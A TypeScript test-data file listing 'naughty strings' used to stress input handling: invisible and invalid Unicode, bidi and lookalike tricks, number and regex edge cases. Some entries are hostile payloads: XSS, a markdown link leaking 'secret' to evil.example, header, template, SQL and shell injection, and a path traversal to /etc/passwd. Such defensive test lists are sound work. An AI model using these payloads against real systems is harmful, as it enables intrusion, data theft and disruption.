/** Texts that have broken programs: each stands for a way in which a text is more than it seems. */
export const naughtyStrings: readonly string[] = [
  // Nothing, or nothing to see.
  '',
  ' ',
  '\t\r\n',
  '\u00a0\u2003\u3000',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u00ad'.repeat(40),
  // What no database or no UTF-8 text can hold.
  'a\u0000b',
  '\ud800',
  'x\udfff\ud800y',
  '\uffff\ufffe',
  // Controls, and lines that end something.
  '\u0007\u0008\u001b[2J\u001b[31m',
  '\u0085\u2028\u2029',
  'one\r\nset-cookie: countersign.session=stolen',
  // Directions and lookalikes.
  '\u202egnp.exe\u202c',
  '\u2066\u2067abc\u2069\u2069',
  'р\u0430ypal.example',
  '\u{e0041}\u{e0042}\u{e007f}',
  'مرحبا بالعالم',
  // Marks upon marks, pictures of many parts, letters whose size changes with their case.
  `Z${'\u0351\u0363\u0325'.repeat(60)}`,
  '👩🏽‍👩🏻‍👧🏿‍👦🏼🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  'ßİıŉǰΐﬁ',
  '𝒷𝒾𝑔 𐐷 \u{10ffff}',
  // Markup, templates, queries, paths and shells.
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '![x](https://evil.example/?q=secret) [y](javascript:alert(1))',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  "'; drop table app_user; --",
  "\\' or 1=1 -- \\",
  '$1 $2 %s %n %x :name ?',
  '../../../../etc/passwd',
  '$(reboot) `reboot` | reboot',
  // Words that mean something to somebody.
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e999',
  '9007199254740993',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'true',
  '*',
  // Expressions that take long, or never end.
  '(((((((((((((((((((((((((((((((((((((((((',
  `${'a'.repeat(40)}!`,
  '"a".matches("^(a+)+$")',
  'args.x.y.z > 10',
  // Long ones.
  'a'.repeat(5_000),
  'é'.repeat(70_000),
];
